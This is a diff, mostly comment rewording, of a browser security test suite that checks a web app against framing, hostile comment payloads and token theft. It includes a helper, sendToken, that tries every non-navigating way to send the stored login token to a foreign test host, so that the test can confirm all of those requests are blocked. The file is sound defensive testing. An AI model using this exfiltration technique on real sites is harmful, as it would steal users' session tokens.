@@ -6,12 +6,12 @@ import { ELSEWHERE, payloads } from '@gemas/mocks/payloads';
 import { expect, heading, test } from './harness.ts';
 
 const FERNANDA = '48213';
-/** A key other than the build's. */
+/** A key for login codes that differs from the key of the build. */
 const OTHER_KEY = 'ab'.repeat(32);
 
 interface Foreign {
   origin: string;
-  /** Addresses that the foreign server was asked for. */
+  /** Paths that were requested from the foreign server. */
   asked: string[];
   close(): void;
 }
@@ -57,7 +57,7 @@ test('a foreign page can neither frame the app nor reach into a window that it o
   await expect.poll(seen).toBe(true);
   expect(await opened.evaluate(() => window.opener)).toBeNull();
   foreign.close();
-  // The browser reports the refused frame, as expected.
+  // The browser reports that it has refused to show the app in a frame, as expected.
   violations.length = 0;
 });
 
@@ -82,8 +82,8 @@ test('whoever has the app can make a link, and nobody else', async ({ page, site
 });
 
 /**
- * Number of payloads per comment. The number of comments is what a screen renders at once. payloads.spec.ts shows each
- * payload alone.
+ * Number of payloads in one comment of the thread. The thread has as many comments as a screen renders at once.
+ * payloads.spec.ts shows each payload alone.
  */
 const OF_A_COMMENT = 30;
 
@@ -127,7 +127,7 @@ test('a thread of every hostile comment runs nothing and asks no other host', as
   violations.length = 0;
 });
 
-/** Sends the token to another host in every way that a page has without navigating. Runs in the page. */
+/** Sends the token to another host in every way that a page has without navigating away. Runs in the page. */
 function sendToken(host: string): void {
   const to = (way: string) => `${host}/${way}?${localStorage.token}`;
   const add = (name: string, attributes: Record<string, string>) => {
@@ -187,7 +187,7 @@ test('code in the app can send the token to no other host, unless it leaves the 
   await enter(FERNANDA);
   await expect(heading(page, /Ávila/)).toBeVisible();
   await page.evaluate(sendToken, foreign.origin);
-  // Waits until earlier requests would have arrived: more than 15 were blocked.
+  // Waits until more than 15 requests were blocked. Requests that were not blocked have arrived by then.
   await expect.poll(() => violations.length).toBeGreaterThan(15);
   const token = await page.evaluate(() => localStorage.token);
   expect(foreign.asked).toEqual([]);
